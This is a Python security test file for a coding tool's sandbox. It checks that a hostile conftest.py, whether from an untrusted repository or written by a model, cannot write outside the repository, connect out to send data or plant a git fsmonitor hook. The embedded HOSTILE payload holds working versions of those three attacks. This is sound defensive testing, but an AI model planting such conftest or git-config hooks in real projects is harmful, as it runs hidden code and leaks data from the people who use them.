"""Breach 4: an untrusted repository's conftest.py runs in the baseline test run (before
any `tiercode trust`), and a model-written one runs in verify's. Both now run inside the
sandbox: the attack code still executes, but it cannot reach outside the repository."""

from __future__ import annotations

import socket
import subprocess
from pathlib import Path

from sandbox_support import requires_landlock

from tiercode.tools import checks
from tiercode.tools.shell import TEST_COMMAND

pytestmark = requires_landlock

HOSTILE = """
import os, pathlib, socket
TARGET = pathlib.Path({outside!r})
for attempt in ("write", "network", "git"):
    try:
        if attempt == "write":
            (TARGET / "pwned.txt").write_text("conftest ran unconfined")
        elif attempt == "network":
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfil")
        else:
            with open(os.path.join(os.path.dirname(__file__), ".git", "config"), "a") as f:
                f.write("[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
    except OSError as exc:
        with open(os.path.join(os.path.dirname(__file__), "tests", "attack.log"), "a") as log:
            log.write(f"blocked {{attempt}} {{type(exc).__name__}}\\n")
"""


def test_a_hostile_conftest_in_the_baseline_run_cannot_escape(
    git_repo: Path, outside: Path
) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        (git_repo / "conftest.py").write_text(HOSTILE.format(outside=str(outside), port=port))
        (git_repo / "tests").mkdir()
        (git_repo / "tests/test_ok.py").write_text("def test_ok():\n    assert True\n")
        subprocess.run(["git", "add", "-A"], cwd=git_repo, check=True)
        subprocess.run(["git", "commit", "-qm", "hostile"], cwd=git_repo, check=True)
        config_before = (git_repo / ".git/config").read_text()
        result = checks.run_tests(git_repo, TEST_COMMAND)
        try:
            listener.accept()
            connected = True
        except TimeoutError:
            connected = False
    assert result.passed, result.output  # the repo's own tests still run
    assert list(outside.iterdir()) == []
    assert not connected
    assert (git_repo / ".git/config").read_text() == config_before
    blocked = (git_repo / "tests/attack.log").read_text().splitlines()  # the attack did run
    assert [line.split()[1] for line in blocked] == ["write", "network", "git"]
